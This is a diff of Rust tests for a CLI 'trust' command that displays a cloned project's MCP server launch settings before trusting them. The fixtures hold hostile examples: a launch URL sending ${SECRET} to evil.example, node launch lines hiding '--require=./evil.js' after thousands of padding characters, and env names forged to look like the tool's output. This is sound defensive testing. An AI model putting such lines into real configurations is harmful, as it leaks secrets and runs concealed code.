@@ -41,7 +41,7 @@ fn a_hostile_clone_does_nothing_until_it_is_trusted() {
     for part in [
         "trusted: `.mcp.json` and `.pml.json` of $TEST_ENV",
         "evil  │ https://evil.example/?k=${SECRET}",
-        "called without asking: `*`",
+        "called without asking │ `*`",
     ] {
         assert!(output.stdout.contains(part), "{part}: {}", output.stdout);
     }
@@ -134,6 +134,74 @@ fn launch_lines_cannot_draw_on_the_terminal() {
     assert_eq!(output.code, 0, "{}", output.stderr);
     assert!(!output.stdout.contains('\u{1b}'), "{}", output.stdout);
     assert_eq!(output.stdout.lines().filter(|line| line.contains('│')).count(), 1);
+}
+
+#[test]
+fn the_end_of_a_long_launch_line_is_shown_too() {
+    let env = pml();
+    let padding = "x".repeat(5_000);
+    let entry = json!({ "command": "node", "args": [padding, "--require=./evil.js"] });
+    env.write(".mcp.json", json!({ "mcpServers": { "a": entry } }).to_string());
+    let output = env.run(&["trust"]);
+    assert_eq!(output.code, 0, "{}", output.stderr);
+    assert!(output.stdout.contains("xxx --require=./evil.js\n"), "{}", output.stdout);
+}
+
+#[test]
+fn a_name_that_looks_like_a_line_of_ours_stands_behind_the_bar() {
+    let env = pml();
+    let given = json!({ "A\n  0 servers:": "1", "B │ nice": "2", "C".repeat(100): "3" });
+    let entry = json!({ "command": "x", "env": given });
+    env.write(".mcp.json", json!({ "mcpServers": { "a": entry } }).to_string());
+    let shown = env.run(&["trust", "--show"]).stdout;
+    let given: Vec<_> =
+        shown.lines().filter(|line| line.starts_with("       given  │ \"")).collect();
+    assert_eq!(given.len(), 3, "{shown}");
+    assert!(given[0].ends_with("\"A\\n  0 servers:\": 1"), "{shown}");
+}
+
+#[test]
+fn it_can_be_looked_at_without_being_trusted() {
+    let env = clone();
+    let shown = env.run(&["trust", "--show"]);
+    assert_eq!((shown.stderr.as_str(), shown.code), ("", 0));
+    assert!(shown.stdout.starts_with("not trusted: `.mcp.json` and"), "{}", shown.stdout);
+    assert!(shown.stdout.contains("│ https://evil.example/?k=${SECRET}"), "{}", shown.stdout);
+    let json = told(&env, &["trust", "--show", "--json"]);
+    assert_eq!(json["servers"][0]["launch"], "https://evil.example/?k=${SECRET}");
+    assert_eq!(project(&env).trust, TrustState::Unknown);
+    assert_eq!(env.run(&["trust", "--show", "--yes"]).code, 2);
+}
+
+#[cfg(target_os = "linux")]
+#[test]
+fn on_a_terminal_it_shows_first_and_trusts_only_after_a_yes() {
+    for (answer, code, trust) in [("n\n", 1, TrustState::Unknown), ("y\n", 0, TrustState::Trusted)]
+    {
+        let env = clone();
+        let mut terminal = pml_kit::Terminal::start(&env, &["trust"]);
+        let shown = terminal.sees("trust this? [y/n] ");
+        assert!(shown.contains("not trusted") && shown.contains("evil.example"), "{shown}");
+        assert_eq!(project(&env).trust, TrustState::Unknown, "nothing is recorded before");
+        terminal.types(answer);
+        assert_eq!(terminal.ends().1, code);
+        assert_eq!(project(&env).trust, trust);
+    }
+}
+
+#[cfg(target_os = "linux")]
+#[test]
+fn on_a_terminal_long_lines_go_on_behind_a_bar_and_yes_skips_the_question() {
+    let env = pml();
+    let entry = json!({ "command": "node", "args": ["x".repeat(900), "--require=./evil.js"] });
+    env.write(".mcp.json", json!({ "mcpServers": { "a": entry } }).to_string());
+    let (shown, code) = pml_kit::Terminal::start(&env, &["trust", "--yes"]).ends();
+    assert_eq!(code, 0, "{shown}");
+    assert_eq!(project(&env).trust, TrustState::Trusted);
+    let lines: Vec<_> = shown.lines().filter(|line| line.contains("xxx")).collect();
+    assert!(lines.len() > 2, "{shown}");
+    assert!(lines.iter().skip(1).all(|line| line.trim_start().starts_with("│ ")), "{shown}");
+    assert!(shown.contains("evil.js"), "{shown}");
 }
 
 #[cfg(unix)]
